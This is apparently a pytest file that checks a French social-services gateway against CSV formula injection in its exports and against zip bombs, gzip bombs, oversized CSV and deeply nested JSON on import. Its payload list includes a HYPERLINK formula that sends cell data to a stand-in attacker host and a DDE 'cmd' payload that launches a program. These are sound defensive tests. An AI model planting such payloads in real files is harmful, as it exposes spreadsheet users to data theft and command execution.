"""What a spreadsheet would compute in the files that we write; what is no text in the files that we read."""

import contextlib
import csv
import gzip
import io
import zipfile
from argparse import Namespace
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from gateway.adapters.database import tables as t
from gateway.commands import import_
from gateway.domain.conversation import Channel
from gateway.domain.people import Beneficiary, Referent
from gateway.errors import BadForm, BadRow, NotReady
from gateway.figures import as_csv, harmless
from gateway.usecases.reading_csv import rows
from gateway.usecases.sharing import Count
from tests.attacks.walk import addresses, one_of_each
from tests.web.office import CLAIRE, Office, opened
from tests.web.service import Service, phone

FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://attaque.example.org/?\"&A1)", "+33", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1", "=cmd|'/C calc'!A0", "\ufeff=1+1", "\u200b=1+1",
]  # fmt: skip


@pytest.fixture
async def office(service: Service) -> AsyncIterator[Office]:
    async with opened(service) as office:
        yield office


def computed(cell: str) -> bool:
    """As a spreadsheet sees it: spaces and marks that do not show are nothing to it."""
    shown = cell.lstrip("\ufeff\u200b\u00a0 \t\r\n")
    return shown.startswith(tuple("=+-@＝＋－＠|%"))


@pytest.mark.parametrize("cell", FORMULAS)
def test_it_lets_a_spreadsheet_compute_nothing(cell: str) -> None:
    assert not computed(harmless(cell))
    assert "".join(harmless(cell).split()).endswith("".join(cell.split()))


@pytest.mark.parametrize("cell", ["", "Amina", "7 rue du Lac", "12,5", "a=b", "100 %", "<5", "l'été"])
def test_it_leaves_other_cells_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


async def test_it_writes_no_formula_in_any_file_of_the_workspace(office: Office) -> None:
    """Names of people, of referents and of structures that begin as formulas, in every CSV there is."""
    desk, evil = office.desk, '=HYPERLINK("https://attaque.example.org")'
    await one_of_each(office)
    async with desk.store.transaction() as tx:
        for formula in FORMULAS:
            number = phone()
            await tx.save_beneficiary(Beneficiary(number, formula, "fr", "79000", formula[:40]), CLAIRE)
            await tx.conversation_at(Channel.SMS, number, desk.now)
        await tx.save_referent(Referent(CLAIRE, evil, structure="MDS de Niort"))
    for one in await office.rows(t.conversation):
        assert (await office.browser.get(f"/workspace/people/{one['pseudonym']}")).status_code == 200
    lead = await desk.signed(await desk.referent("chef@example.org", evil, "MDS de Niort", leads=True))
    files = [path for path in addresses(desk.service, "GET") if path.endswith(".csv")]
    assert {"/workspace/access.csv", "/workspace/results.csv", "/workspace/figures.csv"} <= set(files)
    cells = 0
    for path in files:
        for more in ("", "?by=month", "?period=365"):
            answer = await lead.get(path + more)
            assert answer.status_code == 200, path
            assert answer.headers["content-type"].startswith("text/csv")
            assert answer.headers["content-disposition"].startswith("attachment")
            for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=";"):
                assert [cell for cell in row if computed(cell)] == [], path
                cells += len(row)
    assert cells > 200
    assert "HYPERLINK" in (await lead.get("/workspace/access.csv")).text  # it was there to be computed


def test_it_writes_no_formula_in_the_figures() -> None:
    found = [Count(month="2026-11", epci="x", kind=name, severity="2", people=7) for name in FORMULAS]
    written = as_csv(found, {}, {"x": "=1+1"})
    table = list(csv.reader(io.StringIO(written), delimiter=";"))
    assert not [cell for row in table for cell in row if computed(cell)]


# files that are no text


def zipped() -> bytes:
    """A hundred megabytes of zeros in a hundred kilobytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 100_000_000)
    return file.getvalue()


PACKED = {
    "people.xlsx": (zipped, "CSV"),
    "people.ods": (zipped, "CSV"),
    "people.xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), "CSV"),
    "people.csv.gz": (lambda: gzip.compress(b"phone\n" + b"0639980001\n" * 1_000_000), "décompressez"),
}


@pytest.mark.parametrize("what", ["beneficiaries", "referents", "openings", "services", "rdv-insertion"])
@pytest.mark.parametrize("name", PACKED)
def test_it_unpacks_nothing(tmp_path: Path, name: str, what: str) -> None:
    made, told = PACKED[name]
    (tmp_path / name).write_bytes(made())
    with pytest.raises(NotReady) as refused:
        import_.run(Namespace(what=what, file=tmp_path / name))
    assert told in str(refused.value)


def test_it_reads_no_file_without_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(import_, "LARGEST", 1_000_000)
    with pytest.raises(NotReady, match="trop gros"):
        import_.run(Namespace(what="beneficiaries", file=Path("/dev/zero")))


BOMBS = {
    "a-cell-of-ten-megabytes": b"phone\n" + b"0" * 10_000_000 + b"\n",
    "an-open-quote": b'phone\n"' + b"0639980001\n" * 300_000,
    "a-million-columns": b"phone" + b"," * 1_000_000 + b"\n0639980001\n",
    "only-quotes": b'"' * 2_000_000,
    "only-separators": b";" * 2_000_000,
    "utf-16-cut": b"\xff\xfe" + b"p" * 1_000_001,
}


@pytest.mark.parametrize("content", BOMBS.values(), ids=list(BOMBS))
def test_it_reads_odd_tables_in_no_time(content: bytes) -> None:
    started = datetime.now(UTC)
    with contextlib.suppress(BadRow):
        list(rows(content, ("phone",)))
    assert datetime.now(UTC) - started < timedelta(seconds=20)


DEEP = {
    "deep-lists": b"[" * 200_000,
    "deep-objects": b'{"data":' * 200_000,
    "a-long-number": b'{"meta": ' + b"9" * 100_000 + b"}",
    "numbers-without-end": b'{"data": {"id": 1e999, "duration_in_min": -1e308}, "meta": {"model": "Rdv", "event": "created"}}',
    "a-huge-duration": b'{"data": {"id": 1, "starts_at": "2026-11-24T10:00:00Z", "duration_in_min": -' + b"9" * 300
    + b'}, "meta": {"model": "Rdv", "event": "created"}}',
    "half-an-emoji": b'{"data": {"id": 1, "first_name": "\\ud83d"}, "meta": {"model": "User", "event": "created"}}',
}  # fmt: skip


@pytest.mark.parametrize("content", DEEP.values(), ids=list(DEEP))
async def test_it_reads_odd_events_without_breaking(standing: Service, content: bytes) -> None:
    with contextlib.suppress(BadForm):  # 400; anything else would be a 500
        standing.wiring.rdv_service_public.read(content, datetime(2026, 11, 24, tzinfo=UTC))
